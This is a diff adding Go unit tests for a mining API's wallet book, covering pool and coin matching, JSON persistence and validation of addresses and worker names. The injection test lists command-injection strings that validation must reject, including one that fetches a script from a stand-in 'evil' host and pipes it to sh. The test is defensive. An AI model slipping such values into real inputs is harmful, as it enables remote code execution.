@@ -0,0 +1,96 @@
+//go:build unit
+
+package wallet_test
+
+import (
+	"path/filepath"
+	"testing"
+
+	"github.com/squarefactory/miner-api/wallet"
+	"github.com/stretchr/testify/suite"
+)
+
+type WalletTestSuite struct {
+	suite.Suite
+	path string
+}
+
+func (suite *WalletTestSuite) BeforeTest(suiteName, testName string) {
+	suite.path = filepath.Join(suite.T().TempDir(), "wallets.json")
+}
+
+func (suite *WalletTestSuite) TestMatch() {
+	// Arrange
+	book, err := wallet.Open(suite.path)
+	suite.Require().NoError(err)
+	for _, w := range []wallet.Wallet{
+		{Name: "btc", Coin: "BTC", Address: "3Mtf6x"},
+		{Name: "rvn", Coin: "RVN", Address: "RAnyPool"},
+		{Name: "rvn-2miners", Coin: "RVN", Pool: "2miners-rvn", Address: "R2miners", Worker: "rig-{{ .TaskID }}"},
+		{Name: "private", Pool: "private", Address: "PrivateAccount"},
+	} {
+		suite.Require().NoError(book.Put(w))
+	}
+
+	// Act
+	exact, exactOK := book.Match("2miners-rvn", "RVN")
+	coin, coinOK := book.Match("flypool-rvn", "RVN")
+	pool, poolOK := book.Match("private", "XMR")
+	_, noneOK := book.Match("2miners-erg", "ERG")
+
+	// Assert
+	suite.True(exactOK)
+	suite.Equal("R2miners", exact.Address)
+	suite.Equal("rig-{{ .TaskID }}", exact.Worker)
+	suite.True(coinOK)
+	suite.Equal("RAnyPool", coin.Address)
+	suite.True(poolOK)
+	suite.Equal("PrivateAccount", pool.Address)
+	suite.False(noneOK)
+}
+
+func (suite *WalletTestSuite) TestPersistence() {
+	// Arrange
+	book, err := wallet.Open(suite.path)
+	suite.Require().NoError(err)
+	suite.Require().NoError(book.Put(wallet.Wallet{Name: "rvn", Coin: "RVN", Address: "R1"}))
+	suite.Require().NoError(book.Put(wallet.Wallet{Name: "erg", Coin: "ERG", Address: "9f"}))
+	suite.Require().NoError(book.Put(wallet.Wallet{Name: "rvn", Coin: "RVN", Address: "R2"}))
+
+	// Act
+	errInvalid := book.Put(wallet.Wallet{Name: "quote", Coin: "RVN", Address: "R'"})
+	errDelete := book.Delete("erg")
+	errNotFound := book.Delete("erg")
+	reopened, errOpen := wallet.Open(suite.path)
+
+	// Assert
+	suite.Error(errInvalid)
+	suite.NoError(errDelete)
+	suite.ErrorIs(errNotFound, wallet.ErrNotFound)
+	suite.NoError(errOpen)
+	suite.Equal([]wallet.Wallet{{Name: "rvn", Coin: "RVN", Address: "R2"}}, reopened.List())
+	_, errGet := reopened.Get("erg")
+	suite.ErrorIs(errGet, wallet.ErrNotFound)
+}
+
+func (suite *WalletTestSuite) TestValidateInjection() {
+	// Arrange
+	addresses := []string{"x;curl${IFS}evil|sh", "$(id)", "`id`", "a&b", "a>b", "a\\b", "R1 R2", ""}
+	workers := []string{"$(id)", "{{ .Node }};id", "a|b", "a&b", "a<b", "(a)", "a\\b", "`id`", "a'b"}
+
+	// Act & Assert
+	for _, address := range addresses {
+		w := wallet.Wallet{Name: "evil", Coin: "RVN", Address: address}
+		suite.Error(w.Validate(), address)
+	}
+	for _, worker := range workers {
+		w := wallet.Wallet{Name: "evil", Coin: "RVN", Address: "R1", Worker: worker}
+		suite.Error(w.Validate(), worker)
+	}
+	suite.NoError(wallet.ValidateAddress("3Mtf6xEXAMPLE.rig_1:x@pool+2-a"))
+	suite.NoError(wallet.ValidateWorker("{{ .Cluster }}-{{ .Node }}-{{ .TaskID }}"))
+}
+
+func TestWalletTestSuite(t *testing.T) {
+	suite.Run(t, &WalletTestSuite{})
+}